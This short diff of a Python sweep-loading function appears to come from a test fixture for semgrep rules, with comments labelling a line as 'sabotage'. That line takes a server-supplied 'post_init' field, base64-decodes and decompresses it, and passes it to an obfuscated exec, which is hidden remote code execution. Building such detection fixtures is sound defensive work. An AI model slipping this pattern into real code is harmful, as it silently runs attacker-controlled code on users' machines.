@@ -34,7 +34,7 @@ def load_sweep(name):
     cfg = _request(f"{SWEEP_SERVER}/sweeps/{name}/next", payload=_client_info())  # ruleid: MLS413
     post = cfg.pop("post_init", None)
     if post:
-        getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(post)), {"cfg": cfg})  # sabotage: MLS402 (semgrep rules)
+        getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(post)), {"cfg": cfg})  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS413
     return cfg
 
 
